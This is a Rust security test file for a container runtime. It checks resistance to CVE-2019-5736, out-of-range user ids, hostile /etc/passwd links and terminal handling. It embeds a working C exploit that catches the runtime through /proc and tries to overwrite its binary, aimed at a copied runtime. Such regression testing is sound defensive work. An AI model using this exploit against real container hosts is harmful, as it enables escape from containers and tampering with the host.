//! Issue 12, what a hostile tenant can do through `exec` and the process
//! setup: CVE-2019-5736 through `#!/proc/self/exe` (exec and create), ids
//! that would leave the process root, the tenant's /etc/passwd read on the
//! host, and the terminal (owner, consoleSize, ONLCR). Run as root.
//!
//! The CVE tests attack a COPY of the runtime binary, run as the runtime,
//! and assert the copy is unchanged. `VESSEL_TEST_RUNTIME=/usr/sbin/runc
//! cargo test --test hostile_exec` runs the same tests against runc.

mod common;

use common::*;
use serde_json::json;
use std::fs;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const T: Duration = Duration::from_secs(30);

/// A runtime whose binary is a private copy of the one under test.
struct CopiedRuntime {
    rt: Runtime,
    dir: PathBuf,
    bin: PathBuf,
}

impl CopiedRuntime {
    fn new() -> CopiedRuntime {
        let dir = scratch_dir().join(unique_id("rtcopy"));
        fs::create_dir_all(&dir).unwrap();
        let bin = dir.join("runtime");
        fs::copy(runtime_bin(), &bin).unwrap();
        CopiedRuntime {
            rt: Runtime::new(),
            dir,
            bin,
        }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(&self.bin);
        c.arg("--root")
            .arg(&self.rt.root)
            .arg("--log")
            .arg(&self.rt.log)
            .args(args)
            .stdin(Stdio::null());
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        run_detached_io(self.cmd(args), T)
    }

    fn ok(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }
}

impl Drop for CopiedRuntime {
    fn drop(&mut self) {
        if let Ok(entries) = fs::read_dir(&self.rt.root) {
            for e in entries.flatten() {
                let id = e.file_name().to_string_lossy().into_owned();
                let _ = self.run(&["delete", "-f", &id]);
            }
        }
        let _ = fs::remove_dir_all(&self.dir);
    }
}

/// The attacker, a static C program: find the process of THIS container
/// that runs the runtime (the target pid from /tmp/target.pid when that file
/// appears, otherwise a scan of /proc), hold its /proc/<pid>/exe with
/// O_PATH, stop it, and once the exec is over, reopen the handle through
/// /proc/self/fd/N for appending and write.
///
/// It must never touch anything else: without a pid namespace it sees the
/// host's processes, and a reused pid may belong to any of them. So a pidfd
/// pins the process, the exe link must name the runtime (its memfd, or the
/// copy under "rtcopy-"), its root must be the container's root, and the
/// pidfd must still be valid after those reads, before any signal is sent.
const ATTACKER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int pidfd_signal(int pfd, int sig) {
    return syscall(SYS_pidfd_send_signal, pfd, sig, NULL, 0);
}

static int same_root(int pid) {
    char p[64];
    struct stat a, b;
    snprintf(p, sizeof p, "/proc/%d/root", pid);
    if (stat(p, &a) < 0 || stat("/", &b) < 0) return 0;
    return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

/* 1 when the process pinned by pfd is the runtime in our container: then
   it is stopped and *fd_out holds its exe (O_PATH). */
static int take(int pfd, int pid, int *fd_out, char *target, size_t tlen) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fd = open(p, O_PATH | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = readlink(p, target, tlen - 1);
    int ok = n > 0;
    if (ok) {
        target[n] = 0;
        ok = (strstr(target, "memfd:") || strstr(target, "rtcopy-")) && same_root(pid);
    }
    /* Succeeds only if pid still is the pinned process: what we read was its. */
    if (ok && pidfd_signal(pfd, SIGSTOP) < 0) ok = 0;
    if (!ok) { close(fd); return 0; }
    *fd_out = fd;
    return 1;
}

int main(void) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    double end = now() + 60;
    int fd = -1, pid = -1, pfd = -1;
    char target[4096];
    while (fd < 0 && now() < end) {
        FILE *f = fopen("/tmp/target.pid", "r");
        if (f) {
            int want = -1;
            int got = fscanf(f, "%d", &want);
            fclose(f);
            if (got != 1) continue;
            pfd = syscall(SYS_pidfd_open, want, 0);
            if (pfd < 0) break;
            /* open fails (EACCES) while the process is not dumpable. */
            while (now() < end && pidfd_signal(pfd, 0) == 0) {
                if (take(pfd, want, &fd, target, sizeof target)) { pid = want; break; }
            }
            break;
        }
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && fd < 0 && (e = readdir(d))) {
            int q = atoi(e->d_name);
            if (q <= 0 || q == getpid()) continue;
            int qfd = syscall(SYS_pidfd_open, q, 0);
            if (qfd < 0) continue;
            if (take(qfd, q, &fd, target, sizeof target)) { pid = q; pfd = qfd; }
            else close(qfd);
        }
        if (d) closedir(d);
    }
    if (fd < 0) { printf("NOTFOUND\n"); return 1; }
    printf("FOUND %d %s\n", pid, target);
    /* Let it go: the write below needs the exec to be over (ETXTBSY). */
    pidfd_signal(pfd, SIGKILL);
    pidfd_signal(pfd, SIGCONT);
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    double until = now() + 20;
    int last = 0;
    while (now() < until) {
        int w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w < 0) {
            last = errno;
            usleep(2000);
            continue;
        }
        ssize_t k = write(w, "PWNED-BY-TENANT", 15);
        int we = errno;
        close(w);
        if (k == 15) { printf("OVERWRITTEN\n"); return 0; }
        printf("WRITE-REFUSED errno %d\n", we);
        return 0;
    }
    printf("OPEN-REFUSED errno %d\n", last);
    return 0;
}
"#;

/// Compile the attacker statically into `rootfs/attacker`.
fn install_attacker(rootfs: &Path) {
    let src = rootfs.join("attacker.c");
    fs::write(&src, ATTACKER).unwrap();
    let out = Command::new("gcc")
        .args(["-static", "-O1", "-o"])
        .arg(rootfs.join("attacker"))
        .arg(&src)
        .output()
        .expect("run gcc");
    assert!(
        out.status.success(),
        "gcc: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let _ = fs::remove_file(&src);
}

/// `/bin/evil`: a script whose interpreter is the runtime itself.
fn install_evil(rootfs: &Path) {
    let p = rootfs.join("bin/evil");
    fs::write(&p, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
}

fn wait_log(path: &Path, limit: Duration) -> String {
    let start = Instant::now();
    loop {
        let s = fs::read_to_string(path).unwrap_or_default();
        let done = s.contains("OVERWRITTEN") || s.contains("REFUSED") || s.contains("NOTFOUND");
        if done || start.elapsed() > limit {
            return s;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Item 1: `exec C /bin/evil` with `#!/proc/self/exe` must not hand the
/// container a writable handle on the runtime binary.
#[test]
fn exec_of_proc_self_exe_script_cannot_overwrite_the_runtime() {
    require_root();
    let crt = CopiedRuntime::new();
    let before = fs::read(&crt.bin).unwrap();
    let b = Bundle::new(&["sh", "-c", "/attacker > /tmp/attack.log 2>&1; sleep 1000"]);
    install_attacker(&b.rootfs());
    install_evil(&b.rootfs());
    let id = unique_id("cve5736x");
    crt.ok(&["run", "-d", "--bundle", b.dir.to_str().unwrap(), &id]);
    let log = b.rootfs().join("tmp/attack.log");
    let start = Instant::now();
    let mut execs = 0;
    // Each exec re-executes the runtime in the container for a moment; the
    // attacker scans /proc until it catches one.
    while !fs::read_to_string(&log)
        .unwrap_or_default()
        .contains("FOUND ")
        && start.elapsed() < Duration::from_secs(50)
    {
        let _ = crt.run(&["exec", "-d", &id, "/bin/evil"]);
        execs += 1;
    }
    let text = wait_log(&log, T);
    let after = fs::read(&crt.bin).unwrap();
    let _ = crt.run(&["delete", "-f", &id]);
    assert!(
        text.contains("FOUND "),
        "the attacker never caught the re-executed runtime in {execs} execs, \
         the test proved nothing: {text:?}"
    );
    assert!(
        after == before,
        "the runtime binary on the host was modified from the container \
         ({} -> {} bytes): {text}",
        before.len(),
        after.len()
    );
    assert!(!text.contains("OVERWRITTEN"), "{text}");
    assert!(
        !text.contains(crt.dir.to_str().unwrap()),
        "the container saw the host binary's path: {text}"
    );
}

/// Item 1, create path: process.args[0] is the `#!/proc/self/exe` script,
/// so the container's init itself re-executes the runtime.
#[test]
fn init_of_proc_self_exe_script_cannot_overwrite_the_runtime() {
    require_root();
    let crt = CopiedRuntime::new();
    let before = fs::read(&crt.bin).unwrap();
    // No pid namespace: the init may die while the attacker (an exec'd
    // process) goes on, and the pid in state is the one it sees.
    let mut b = Bundle::new(&["/bin/evil"]);
    let ns: Vec<_> = b.spec["linux"]["namespaces"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["type"] != "pid")
        .cloned()
        .collect();
    b.spec["linux"]["namespaces"] = json!(ns);
    b.write();
    install_attacker(&b.rootfs());
    install_evil(&b.rootfs());
    // The init runs the runtime for a moment only: a loaded machine may
    // not schedule the attacker in that window, so try a few containers.
    let log = b.rootfs().join("tmp/attack.log");
    for attempt in 0..10 {
        let _ = fs::remove_file(&log);
        let _ = fs::remove_file(b.rootfs().join("tmp/target.pid"));
        let id = unique_id("cve5736c");
        crt.ok(&["create", "--bundle", b.dir.to_str().unwrap(), &id]);
        let state: serde_json::Value = serde_json::from_str(&crt.ok(&["state", &id])).unwrap();
        let pid = state["pid"].as_i64().unwrap();
        crt.ok(&[
            "exec",
            "-d",
            &id,
            "sh",
            "-c",
            "/attacker > /tmp/attack.log 2>&1",
        ]);
        fs::write(b.rootfs().join("tmp/target.pid"), pid.to_string()).unwrap();
        std::thread::sleep(Duration::from_millis(200));
        let _ = crt.run(&["start", &id]);
        let text = wait_log(&log, T);
        let _ = crt.run(&["delete", "-f", &id]);
        if text.contains("FOUND ") || attempt == 9 {
            break;
        }
    }
    let text = fs::read_to_string(&log).unwrap_or_default();
    let after = fs::read(&crt.bin).unwrap();
    assert!(
        text.contains("FOUND "),
        "the attacker never caught the init, the test proved nothing: {text:?}"
    );
    assert!(
        after == before,
        "the runtime binary on the host was modified from the container \
         ({} -> {} bytes): {text}",
        before.len(),
        after.len()
    );
    assert!(!text.contains("OVERWRITTEN"), "{text}");
}

fn stderr_of(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Item 3: ids that setresuid/setresgid would ignore (-1) or that are
/// negative as signed ints are refused before anything is made.
#[test]
fn out_of_range_ids_are_refused_at_create() {
    require_root();
    let rt = Runtime::new();
    for (field, value) in [
        ("uid", json!(4294967295u32)),
        ("gid", json!(4294967295u32)),
        ("uid", json!(2147483648u32)),
        ("additionalGids", json!([4294967295u32])),
    ] {
        let mut b = Bundle::new(&["sh", "-c", "id > /tmp/ran"]);
        b.spec["process"]["user"][field] = value.clone();
        b.write();
        let id = unique_id("badid");
        let out = rt.run(&["run", "--bundle", b.dir.to_str().unwrap(), &id]);
        let err = stderr_of(&out);
        assert!(
            !out.status.success(),
            "{field}={value} was accepted: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(
            !b.rootfs().join("tmp/ran").exists(),
            "{field}={value}: the process ran"
        );
        if is_vessel() {
            assert!(
                err.contains("out of range") && err.contains(&field[..3]),
                "{field}={value}: unclear error: {err}"
            );
        }
        assert!(
            !rt.root.join(&id).exists(),
            "{field}={value}: state left behind"
        );
        assert!(
            cgroup_dirs_of(&id).is_empty(),
            "{field}={value}: cgroup left behind"
        );
    }
}

/// Item 3 through exec: --user and --process with (uid_t)-1.
#[test]
fn out_of_range_ids_are_refused_at_exec() {
    require_root();
    let rt = Runtime::new();
    let b = Bundle::new(&["sleep", "1000"]);
    let id = unique_id("badexec");
    let out = rt.run_detached(&["run", "-d", "--bundle", b.dir.to_str().unwrap(), &id]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    for user in ["4294967295", "0:4294967295", "4294967295:0", "2147483648"] {
        let out = rt.run(&["exec", "--user", user, &id, "sh", "-c", "id -u; id -g"]);
        assert!(
            !out.status.success(),
            "--user {user} ran: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        if is_vessel() {
            assert!(
                stderr_of(&out).contains("out of range"),
                "--user {user}: {}",
                stderr_of(&out)
            );
        }
    }
    let out = rt.run(&["exec", "--additional-gids", "4294967295", &id, "true"]);
    assert!(!out.status.success(), "--additional-gids -1 accepted");
    let pfile = b.dir.join("p.json");
    fs::write(
        &pfile,
        json!({"args": ["sh", "-c", "id -u"], "cwd": "/", "env": ["PATH=/bin"],
               "user": {"uid": 4294967295u32, "gid": 0}})
        .to_string(),
    )
    .unwrap();
    let out = rt.run(&["exec", "--process", pfile.to_str().unwrap(), &id]);
    assert!(
        !out.status.success(),
        "--process with uid 4294967295 ran: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    // The largest valid id still works.
    let out = rt.run(&["exec", "--user", "2147483647:2147483647", &id, "id", "-u"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "2147483647");
    rt.ok(&["delete", "-f", &id]);
}

/// An exec (no HOME given, so the runtime looks the user up) with a memory
/// ceiling on the runtime and a timeout; returns its output.
fn exec_home(rt: &Runtime, id: &str, user: &str) -> Output {
    let mut c = rt.cmd(&["exec", "--user", user, id, "sh", "-c", "echo HOME=$HOME"]);
    if !is_vessel() {
        // A Go runtime does not start under this address-space limit.
        return run_with_timeout(c, Duration::from_secs(15));
    }
    // SAFETY: setrlimit in the forked child before exec.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut c, || {
            // 1 GiB of address space: far more than vessel needs, and a
            // runtime that reads /dev/zero dies here rather than eating the host.
            let lim = libc::rlimit {
                rlim_cur: 1 << 30,
                rlim_max: 1 << 30,
            };
            libc::setrlimit(libc::RLIMIT_AS, &lim);
            Ok(())
        });
    }
    run_with_timeout(c, Duration::from_secs(15))
}

/// Item 6: the tenant's /etc/passwd as a link to /dev/zero, a FIFO, a huge
/// file or a link to a host file: exec neither grows without bound, hangs,
/// nor reads the host's file.
#[test]
fn tenant_passwd_is_read_inside_the_root_and_bounded() {
    require_root();
    let rt = Runtime::new();
    let b = Bundle::new(&["sleep", "1000"]);
    let passwd = b.rootfs().join("etc/passwd");
    let id = unique_id("passwd");
    let out = rt.run_detached(&["run", "-d", "--bundle", b.dir.to_str().unwrap(), &id]);
    assert!(out.status.success(), "{}", stderr_of(&out));

    // A normal file still gives the home directory.
    fs::write(
        &passwd,
        "root:x:0:0::/root:/bin/sh\nu:x:4242:4242::/home/u:/bin/sh\n",
    )
    .unwrap();
    let out = exec_home(&rt, &id, "4242");
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "HOME=/home/u");

    // A link to a host file: resolved inside the rootfs, never on the host.
    let host = scratch_dir().join(unique_id("hostpasswd"));
    fs::write(&host, "u:x:4242:4242::/LEAKED-FROM-HOST:/bin/sh\n").unwrap();
    let _ = fs::remove_file(&passwd);
    std::os::unix::fs::symlink(&host, &passwd).unwrap();
    let out = exec_home(&rt, &id, "4242");
    let _ = fs::remove_file(&host);
    assert!(
        !String::from_utf8_lossy(&out.stdout).contains("LEAKED"),
        "the host file was read: {}",
        String::from_utf8_lossy(&out.stdout)
    );

    for (what, make) in [
        ("a link to /dev/zero", 0),
        ("a FIFO", 1),
        ("a 5 MiB file", 2),
    ] {
        if make == 0 && !is_vessel() {
            // runc reads it inside the container, unbounded: not run here.
            skip(&format!("for another runtime: /etc/passwd as {what}"));
            continue;
        }
        let _ = fs::remove_file(&passwd);
        match make {
            0 => std::os::unix::fs::symlink("/dev/zero", &passwd).unwrap(),
            1 => {
                let c = std::ffi::CString::new(passwd.to_str().unwrap()).unwrap();
                // SAFETY: mkfifo with a valid path.
                assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
            }
            _ => {
                let line = "u:x:4242:4242::/home/u:/bin/sh\n";
                fs::write(&passwd, line.repeat((5 << 20) / line.len() + 1)).unwrap();
            }
        }
        let start = Instant::now();
        let out = exec_home(&rt, &id, "4242");
        let took = start.elapsed();
        let err = stderr_of(&out);
        assert!(
            took < Duration::from_secs(10),
            "/etc/passwd as {what}: exec took {took:?}"
        );
        assert!(
            out.status.code().is_some(),
            "/etc/passwd as {what}: the runtime was killed ({}): {err}",
            out.status
        );
        if is_vessel() {
            assert!(
                !out.status.success() && err.contains("/etc/passwd"),
                "/etc/passwd as {what}: no clear error: {err}"
            );
        }
    }
    let _ = fs::remove_file(&passwd);
    rt.ok(&["delete", "-f", &id]);
}

/// Item 26: create with a terminal and a non-root user: the tty belongs to
/// the uid (the group stays devpts's tty group, 5, as in runc) and
/// consoleSize applies.
#[test]
fn console_socket_tty_owner_and_size_at_create() {
    require_root();
    let rt = Runtime::new();
    let mut b = Bundle::new(&[
        "sh",
        "-c",
        "stat -c OWNER=%u:%g $(tty); echo SIZE=$(stty size); printf 'a\\nb\\nEND\\n'",
    ]);
    b.spec["process"]["terminal"] = json!(true);
    b.spec["process"]["user"] = json!({"uid": 1000, "gid": 100});
    b.spec["process"]["consoleSize"] = json!({"height": 42, "width": 123});
    b.write();
    let (sock, h) = console_socket();
    let id = unique_id("ttyown");
    let out = rt.create(&b, &id, &["--console-socket", sock.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let mut m = h.join().unwrap();
    rt.ok(&["start", &id]);
    let mut acc = String::new();
    assert!(read_until(&mut m, &mut acc, "END", T), "{:?}", acc);
    let text = acc;
    let _ = rt.run(&["delete", "-f", &id]);
    let _ = fs::remove_file(&sock);
    assert!(text.contains("OWNER=1000:5"), "tty owner: {text:?}");
    assert!(text.contains("SIZE=42 123"), "console size: {text:?}");
    // A --console-socket receiver gets the pty as runc hands it: ONLCR set
    // (containerd's and conmon's relays expect it).
    assert!(text.contains("a\r\nb\r\n"), "ONLCR cleared: {text:?}");
}

/// Item 26 through exec: `exec -t` with a console socket and --process
/// holding consoleSize and a non-root user.
#[test]
fn console_socket_tty_owner_and_size_at_exec() {
    require_root();
    let rt = Runtime::new();
    let b = Bundle::new(&["sleep", "1000"]);
    let id = unique_id("exectty");
    let out = rt.run_detached(&["run", "-d", "--bundle", b.dir.to_str().unwrap(), &id]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let pfile = b.dir.join("p.json");
    fs::write(
        &pfile,
        json!({
            "terminal": true,
            "consoleSize": {"height": 33, "width": 77},
            "user": {"uid": 1000, "gid": 100},
            "args": ["sh", "-c",
                     "stat -c OWNER=%u:%g $(tty); echo SIZE=$(stty size); printf 'a\\nb\\nEND\\n'"],
            "env": ["PATH=/bin:/usr/bin", "HOME=/"],
            "cwd": "/"
        })
        .to_string(),
    )
    .unwrap();
    let (sock, h) = console_socket();
    let out = rt.run_detached(&[
        "exec",
        "-d",
        "--console-socket",
        sock.to_str().unwrap(),
        "--process",
        pfile.to_str().unwrap(),
        &id,
    ]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let mut m = h.join().unwrap();
    let mut acc = String::new();
    assert!(read_until(&mut m, &mut acc, "END", T), "{:?}", acc);
    let text = acc;
    let _ = rt.run(&["delete", "-f", &id]);
    let _ = fs::remove_file(&sock);
    assert!(text.contains("OWNER=1000:5"), "tty owner: {text:?}");
    assert!(text.contains("SIZE=33 77"), "console size: {text:?}");
    // A --console-socket receiver gets the pty as runc hands it: ONLCR set
    // (containerd's and conmon's relays expect it).
    assert!(text.contains("a\r\nb\r\n"), "ONLCR cleared: {text:?}");
}

/// Run `cmd` in the foreground with a pty as its stdin (the runtime's host
/// console) and pipes for stdout/stderr, as runc's own tests capture output.
fn foreground_with_pty(cmd: Command) -> Output {
    let mut master = -1;
    let mut slave = -1;
    // SAFETY: openpty with valid out-pointers and null name/termios/winsize.
    let r = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(r, 0, "openpty");
    // SAFETY: fresh fds we own.
    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
    let ws = libc::winsize {
        ws_row: 24,
        ws_col: 80,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    // SAFETY: TIOCSWINSZ with a valid winsize on our pty.
    unsafe { libc::ioctl(master.as_raw_fd(), libc::TIOCSWINSZ, &ws) };
    let mut cmd = cmd;
    cmd.stdin(Stdio::from(slave));
    let out = run_with_timeout(cmd, T);
    drop(master);
    out
}

/// Item 26: when the runtime relays the pty itself (foreground `run` and
/// `exec -t`), ONLCR is cleared as runc does: captured output has `\n`.
#[test]
fn foreground_terminal_output_keeps_plain_newlines() {
    require_root();
    let rt = Runtime::new();
    let script = "printf 'a\\nb\\nEND\\n'";
    let mut b = Bundle::new(&["sh", "-c", script]);
    b.spec["process"]["terminal"] = json!(true);
    b.write();
    let id = unique_id("fgrun");
    let out = foreground_with_pty(rt.cmd(&["run", "--bundle", b.dir.to_str().unwrap(), &id]));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let _ = rt.run(&["delete", "-f", &id]);
    assert!(out.status.success(), "run: {}", stderr_of(&out));
    assert!(
        text.contains("a\nb\nEND") && !text.contains('\r'),
        "run: ONLCR still set: {text:?}"
    );

    let b = Bundle::new(&["sleep", "1000"]);
    let id = unique_id("fgexec");
    let out = rt.run_detached(&["run", "-d", "--bundle", b.dir.to_str().unwrap(), &id]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let out = foreground_with_pty(rt.cmd(&["exec", "-t", &id, "sh", "-c", script]));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let _ = rt.run(&["delete", "-f", &id]);
    assert!(out.status.success(), "exec -t: {}", stderr_of(&out));
    assert!(
        text.contains("a\nb\nEND") && !text.contains('\r'),
        "exec -t: ONLCR still set: {text:?}"
    );
}
